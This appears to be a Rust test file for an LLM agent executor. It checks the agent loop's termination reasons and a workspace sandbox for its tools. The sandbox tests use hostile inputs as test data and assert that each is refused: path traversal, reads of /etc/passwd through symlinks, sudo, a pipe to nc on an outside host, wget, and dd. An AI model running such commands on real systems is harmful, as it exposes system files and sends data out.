            reqs[0]["messages"][1],
            json!({"role": "user", "content": "do it"})
        );
        assert_eq!(tool_messages(&reqs[1]), ["wrote 3 bytes to src/hello.txt"]);
        assert!(
            tool_messages(&reqs[2])[1].contains("exit code 0")
                && tool_messages(&reqs[2])[1].contains("hi")
        );
        let tools = kinds(&events, EventKind::ToolCall);
        assert_eq!(tools.len(), 2);
        assert_eq!(tools[0].fields["tool_name"], "write_file");
        assert_eq!(tools[0].fields["iteration"], 1);
        assert!(tools[0].fields["args_summary"]
            .as_str()
            .unwrap()
            .contains("src/hello.txt"));
        assert_eq!(tools[1].fields["iteration"], 2);
    }

    #[tokio::test]
    async fn agentic_no_tool_calls_after_two_nudges() {
        let server = FakeOllama::start(vec![
            answer("I would edit x."),
            answer("Edit x."),
            answer("x."),
        ])
        .await;
        let ws = tempfile::tempdir().unwrap();
        let (out, _) = run(&server, task(&server, true, "standard"), ws.path(), |_| {}).await;
        assert_eq!(out.status, ExecStatus::Succeeded);
        assert_eq!(out.termination_reason.as_deref(), Some("no_tool_calls"));
        assert_eq!(out.iterations_used, Some(3));
        let reqs = server.requests();
        assert_eq!(reqs.len(), 3);
        let last = reqs[2]["messages"]
            .as_array()
            .unwrap()
            .last()
            .unwrap()
            .clone();
        assert_eq!(last["role"], "user");
        assert!(
            last["content"].as_str().unwrap().contains("tools"),
            "{last}"
        );
    }

    #[tokio::test]
    async fn agentic_repetition() {
        let call = ("list_directory", json!({"path": "."}));
        let server = FakeOllama::start(vec![
            tool_calls(std::slice::from_ref(&call)),
            tool_calls(&[call]),
        ])
        .await;
        let ws = tempfile::tempdir().unwrap();
        let (out, _) = run(&server, task(&server, true, "standard"), ws.path(), |_| {}).await;
        assert_eq!(out.termination_reason.as_deref(), Some("repetition"));
        assert_eq!(out.iterations_used, Some(2));
        assert_eq!(server.requests().len(), 2);
    }

    #[tokio::test]
    async fn agentic_max_iterations_by_tier() {
        let replies = (0..6)
            .map(|i| {
                tool_calls(&[(
                    "list_directory",
                    json!({"path": ".", "pattern": format!("*{i}")}),
                )])
            })
            .collect();
        let server = FakeOllama::start(replies).await;
        let ws = tempfile::tempdir().unwrap();
        let (out, _) = run(&server, task(&server, true, "trivial"), ws.path(), |_| {}).await;
        assert_eq!(out.status, ExecStatus::Succeeded);
        assert_eq!(out.termination_reason.as_deref(), Some("max_iterations"));
        assert_eq!(out.iterations_used, Some(5), "trivial tier cap");
        assert_eq!(server.requests().len(), 5);
    }

    #[tokio::test]
    async fn agentic_stall_after_five_iterations_without_a_write() {
        let mut replies = vec![tool_calls(&[(
            "write_file",
            json!({"path": "a.txt", "content": "1\n2\n3\n"}),
        )])];
        for i in 1..=6 {
            replies.push(tool_calls(&[(
                "read_file",
                json!({"path": "a.txt", "start_line": i, "end_line": i}),
            )]));
        }
        let server = FakeOllama::start(replies).await;
        let ws = tempfile::tempdir().unwrap();
        let (out, _) = run(&server, task(&server, true, "standard"), ws.path(), |_| {}).await;
        assert_eq!(out.termination_reason.as_deref(), Some("stall"));
        assert_eq!(out.iterations_used, Some(6));
        assert_eq!(
            tool_messages(&server.requests()[2]),
            ["wrote 6 bytes to a.txt", "1"]
        );
    }

    #[tokio::test]
    async fn agentic_http_failure_is_error() {
        let server = FakeOllama::start(vec![]).await; // every call: 500 "script exhausted"
        let ws = tempfile::tempdir().unwrap();
        let (out, _) = run(&server, task(&server, true, "standard"), ws.path(), |_| {}).await;
        assert_eq!(out.status, ExecStatus::Failed);
        assert_eq!(out.termination_reason.as_deref(), Some("error"));
        assert!(out.error.unwrap().contains("script exhausted"));
    }

    #[tokio::test]
    async fn agentic_timeout() {
        let server = FakeOllama::start(vec![Reply::Hang]).await;
        let ws = tempfile::tempdir().unwrap();
        let started = Instant::now();
        let (out, _) = run(&server, task(&server, true, "trivial"), ws.path(), |c| {
            c.executor.trivial_timeout_secs = 1
        })
        .await;
        assert_eq!(out.status, ExecStatus::TimedOut);
        assert_eq!(out.termination_reason.as_deref(), Some("timeout"));
        assert!(started.elapsed() < Duration::from_secs(3));
    }

    #[tokio::test]
    async fn agentic_cancellation_within_a_second() {
        let server = FakeOllama::start(vec![Reply::Hang]).await;
        let ws = tempfile::tempdir().unwrap();
        let (ctx, _) = context(
            task(&server, true, "standard"),
            ws.path(),
            ChildEnv::inherit(),
            |_| {},
        );
        let mut ex = OllamaExecutor::new(&ctx).unwrap();
        let run_ctx = ctx.clone();
        let handle = tokio::spawn(async move { ex.execute(&run_ctx, &attempt("x")).await });
        let until = Instant::now() + Duration::from_secs(10);
        while server.requests().is_empty() {
            assert!(Instant::now() < until, "no request reached the fake ollama");
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
        ctx.cancel.cancel();
        let out = tokio::time::timeout(Duration::from_secs(1), handle)
            .await
            .expect("cancel took over 1 s")
            .unwrap();
        assert_eq!(out.status, ExecStatus::Cancelled);
        assert_eq!(out.termination_reason.as_deref(), Some("cancelled"));
    }

    #[tokio::test]
    async fn sandbox_refusals_go_back_to_the_model_and_the_loop_goes_on() {
        let outside = tempfile::tempdir().unwrap();
        let ws = tempfile::tempdir().unwrap();
        std::os::unix::fs::symlink("/etc", ws.path().join("etc_link")).unwrap();
        std::os::unix::fs::symlink(outside.path(), ws.path().join("out")).unwrap();
        let server = FakeOllama::start(vec![
            tool_calls(&[
                (
                    "write_file",
                    json!({"path": "../escape.txt", "content": "x"}),
                ),
                ("read_file", json!({"path": "/etc/passwd"})),
                ("read_file", json!({"path": "etc_link/passwd"})),
                (
                    "write_file",
                    json!({"path": "out/escape.txt", "content": "x"}),
                ),
                (
                    "write_file",
                    json!({"path": "ok/inside.txt", "content": "fine"}),
                ),
                (
                    "run_command",
                    json!({"command": "touch ran && curl http://example.com"}),
                ),
            ]),
            answer("done"),
        ])
        .await;
        let (out, _) = run(&server, task(&server, true, "standard"), ws.path(), |_| {}).await;
        assert_eq!(out.termination_reason.as_deref(), Some("final_answer"));
        let results = tool_messages(&server.requests()[1]);
        assert_eq!(results.len(), 6);
        for r in results.iter().take(4) {
            assert!(r.starts_with("error:") && r.contains("workspace"), "{r}");
        }
        assert_eq!(results[4], "wrote 4 bytes to ok/inside.txt");
        assert!(results[5].contains("not allowed"), "{}", results[5]);
        assert!(!ws.path().parent().unwrap().join("escape.txt").exists());
        assert!(!outside.path().join("escape.txt").exists());
        assert!(
            !ws.path().join("ran").exists(),
            "a denylisted command line is not run at all"
        );
        assert_eq!(
            std::fs::read_to_string(ws.path().join("ok/inside.txt")).unwrap(),
            "fine"
        );
    }
}

mod tools {
    use super::*;
    use hub_sidecar::executor::tools::{Sandbox, Tools};

    async fn tools(ws: &Path) -> Tools {
        Tools::new(
            ws,
            ChildEnv::inherit(),
            Duration::from_millis(200),
            64 * 1024,
        )
        .await
        .unwrap()
    }

    async fn call(t: &Tools, name: &str, args: Value) -> hub_sidecar::executor::tools::ToolOutcome {
        t.call(
            name,
            &args,
            &CancellationToken::new(),
            Duration::from_secs(60),
        )
        .await
    }

    #[test]
    fn every_escape_is_refused() {
        let outside = tempfile::tempdir().unwrap();
        let ws = tempfile::tempdir().unwrap();
        std::fs::create_dir(ws.path().join("sub")).unwrap();
        std::os::unix::fs::symlink("/etc", ws.path().join("etc_link")).unwrap();
        std::os::unix::fs::symlink(outside.path(), ws.path().join("sub/parent_link")).unwrap();
        std::os::unix::fs::symlink("/nonexistent/target", ws.path().join("dangling")).unwrap();
        std::os::unix::fs::symlink("sub", ws.path().join("inner_link")).unwrap();
        let sb = Sandbox::new(ws.path()).unwrap();
        for bad in [
            "../x",
            "sub/../../x",
            "/etc/passwd",
            "etc_link",
            "etc_link/passwd",
            "sub/parent_link/new.txt",
            "sub/parent_link/deeper/new.txt",
            "dangling",
            "dangling/x",
        ] {
            assert!(sb.resolve(bad).is_err(), "{bad} must be refused");
        }
        let root = sb.root().to_path_buf();
        assert_eq!(sb.resolve("sub/../a.txt").unwrap(), root.join("a.txt"));
        assert_eq!(
            sb.resolve("new/dir/f.txt").unwrap(),
            root.join("new/dir/f.txt")
        );
        assert_eq!(
            sb.resolve("inner_link/f").unwrap(),
            root.join("sub/f"),
            "symlinks inside are fine"
        );
        assert_eq!(
            sb.resolve(&ws.path().join("abs.txt").display().to_string())
                .unwrap(),
            root.join("abs.txt")
        );
        assert_eq!(sb.resolve("").unwrap(), root);
    }

    #[tokio::test]
    async fn file_tools_work_inside_the_workspace() {
        let ws = tempfile::tempdir().unwrap();
        let t = tools(ws.path()).await;
        let w = call(
            &t,
            "write_file",
            json!({"path": "a/b/c.rs", "content": "fn main() {}\n// TODO one\n// TODO two\n"}),
        )
        .await;
        assert!(w.ok && w.wrote, "{}", w.output);
        let r = call(
            &t,
            "read_file",
            json!({"path": "a/b/c.rs", "start_line": 2, "end_line": 3}),
        )
        .await;
        assert_eq!(r.output, "// TODO one\n// TODO two");
        let l = call(
            &t,
            "list_directory",
            json!({"path": ".", "recursive": true, "pattern": "*.rs"}),
        )
        .await;
        assert_eq!(l.output, "a/b/c.rs");
        let l = call(&t, "list_directory", json!({})).await;
        assert_eq!(l.output, "a/");
        let s = call(
            &t,
            "search_files",
            json!({"pattern": "TODO \\w+", "max_results": 1}),
        )
        .await;
        assert_eq!(s.output, "a/b/c.rs:2: // TODO one");
        let bad = call(&t, "read_file", json!({"path": "missing.txt"})).await;
        assert!(!bad.ok && bad.output.contains("missing.txt"));
        let big = "line\n".repeat(10_000);
        call(&t, "write_file", json!({"path": "big.txt", "content": big})).await;
        let r = call(&t, "read_file", json!({"path": "big.txt"})).await;
        assert!(r.ok && r.output.starts_with("line\nline\n") && r.output.contains("more bytes"));
        assert!(r.output.len() <= 16 * 1024);
        let unknown = call(&t, "delete_everything", json!({})).await;
        assert!(!unknown.ok && unknown.output.contains("unknown tool"));
    }

    #[tokio::test]
    async fn run_command_runs_in_the_workspace_and_refuses_the_denylist() {
        let ws = tempfile::tempdir().unwrap();
        let t = tools(ws.path()).await;
        let ok = call(
            &t,
            "run_command",
            json!({"command": "echo hi > f.txt && cat f.txt"}),
        )
        .await;
        assert!(
            ok.ok && ok.output.contains("exit code 0") && ok.output.contains("hi"),
            "{}",
            ok.output
        );
        let fail = call(&t, "run_command", json!({"command": "exit 4"})).await;
        assert!(!fail.ok && fail.output.contains("exit code 4"));
        for bad in [
            "sudo ls",
            "ls | nc example.com 80",
            "wget http://x",
            "sh -c 'ssh host'",
            "dd if=/dev/zero of=x",
        ] {
            let r = call(&t, "run_command", json!({"command": bad})).await;
            assert!(
                !r.ok && r.output.contains("not allowed"),
                "{bad}: {}",
                r.output
            );
        }
    }

    #[tokio::test]
    async fn run_command_timeout_kills_the_process_group() {
        let ws = tempfile::tempdir().unwrap();
        let t = tools(ws.path()).await;
        let started = Instant::now();
        let r = call(
            &t,
            "run_command",
            json!({"command": "sleep 30 & echo $! > pid; wait", "timeout_secs": 1}),
        )
        .await;
        assert!(!r.ok && r.output.contains("timed out"), "{}", r.output);
        assert!(started.elapsed() < Duration::from_secs(5));
        assert_gone(&ws.path().join("pid")).await;
    }
}
